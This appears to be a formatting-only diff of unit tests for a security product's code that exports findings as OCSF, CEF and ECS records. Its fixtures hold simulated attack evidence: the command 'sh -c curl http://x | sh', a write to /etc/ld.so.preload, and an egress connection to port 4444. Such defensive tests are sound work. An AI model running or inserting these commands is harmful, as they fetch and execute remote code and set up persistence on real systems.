@@ -16,7 +16,10 @@ describe('OCSF Detection Finding', () => {
       severity: 'High',
       time: execIncident().lastSeenMs,
       count: 3,
-      metadata: { uid: 'inc-unexpected-exec-0001:1', product: { name: 'Tripline', vendor_name: 'Tripline', version: PRODUCT.version } },
+      metadata: {
+        uid: 'inc-unexpected-exec-0001:1',
+        product: { name: 'Tripline', vendor_name: 'Tripline', version: PRODUCT.version },
+      },
       finding_info: {
         uid: 'inc-unexpected-exec-0001',
         title: 'Unexpected executable /bin/sh in payments/checkout (api)',
@@ -24,8 +27,24 @@ describe('OCSF Detection Finding', () => {
         analytic: { uid: 'unexpected-exec', type_id: 2, type: 'Behavioral' },
         attacks: [{ technique: { uid: 'T1059' }, tactic: { uid: 'TA0002', name: 'Execution' } }],
       },
-      resources: [{ uid: 'prod-eu/payments/Deployment/checkout/api', name: 'checkout', type: 'Deployment', namespace: 'payments' }],
-      evidences: [{ process: { pid: 3120, cmd_line: 'sh -c curl http://x | sh', file: { path: '/bin/sh', name: 'sh' }, parent_process: { pid: 3001 } } }],
+      resources: [
+        {
+          uid: 'prod-eu/payments/Deployment/checkout/api',
+          name: 'checkout',
+          type: 'Deployment',
+          namespace: 'payments',
+        },
+      ],
+      evidences: [
+        {
+          process: {
+            pid: 3120,
+            cmd_line: 'sh -c curl http://x | sh',
+            file: { path: '/bin/sh', name: 'sh' },
+            parent_process: { pid: 3001 },
+          },
+        },
+      ],
     });
     expect(PRODUCT.version).toMatch(/^\d+\.\d+\.\d+/);
   });
@@ -33,7 +52,9 @@ describe('OCSF Detection Finding', () => {
   it('marks later revisions as Update and maps each evidence kind to its OCSF object', () => {
     const update = toOcsfDetectionFinding(fileIncident({ revision: 3 }));
     expect(update).toMatchObject({ activity_id: 2, type_uid: 200402, severity_id: 5 });
-    expect((update.evidences as Record<string, unknown>[])[0]).toMatchObject({ file: { path: '/etc/ld.so.preload', name: 'ld.so.preload' } });
+    expect((update.evidences as Record<string, unknown>[])[0]).toMatchObject({
+      file: { path: '/etc/ld.so.preload', name: 'ld.so.preload' },
+    });
     const egress = toOcsfDetectionFinding(connectIncident());
     expect((egress.evidences as Record<string, unknown>[])[0]).toMatchObject({
       dst_endpoint: { ip: '203.0.113.9', port: 4444 },
@@ -43,7 +64,9 @@ describe('OCSF Detection Finding', () => {
   });
 
   it('does not pair techniques with tactics when a rule names several tactics', () => {
-    const f = toOcsfDetectionFinding(execIncident({ mitreTechniques: ['T1059', 'T1204'], mitreTactics: ['execution', 'persistence'] }));
+    const f = toOcsfDetectionFinding(
+      execIncident({ mitreTechniques: ['T1059', 'T1204'], mitreTactics: ['execution', 'persistence'] }),
+    );
     expect((f.finding_info as { attacks: unknown[] }).attacks).toEqual([
       { technique: { uid: 'T1059' } },
       { technique: { uid: 'T1204' } },
@@ -67,7 +90,9 @@ describe('CEF', () => {
 
   it('builds a header with rule, summary and severity 0-10, and standard extension keys', () => {
     const line = cefLine(fileIncident({ summary: 'write | to /etc' }));
-    expect(line.startsWith(`CEF:0|Tripline|Tripline|${PRODUCT.version}|protected-path-write|write \\| to /etc|10|`)).toBe(true);
+    expect(
+      line.startsWith(`CEF:0|Tripline|Tripline|${PRODUCT.version}|protected-path-write|write \\| to /etc|10|`),
+    ).toBe(true);
     expect(line).toContain(' filePath=/etc/ld.so.preload fname=ld.so.preload ');
     expect(line).toContain(`rt=${fileIncident().lastSeenMs} `);
     expect(line).toContain('cn1Label=score cn1=95');
@@ -82,7 +107,9 @@ describe('ECS', () => {
       event: { kind: 'alert', category: ['intrusion_detection', 'process'], type: ['start', 'info'], severity: 4 },
       process: { working_directory: '/app', command_line: 'sh -c curl http://x | sh' },
     });
-    expect(toEcsDocument(fileIncident())).toMatchObject({ event: { category: ['intrusion_detection', 'file'], type: ['creation', 'info'] } });
+    expect(toEcsDocument(fileIncident())).toMatchObject({
+      event: { category: ['intrusion_detection', 'file'], type: ['creation', 'info'] },
+    });
     expect(toEcsDocument(connectIncident())).toMatchObject({
       network: { transport: 'tcp', direction: 'egress' },
       destination: { ip: '203.0.113.9', port: 4444 },
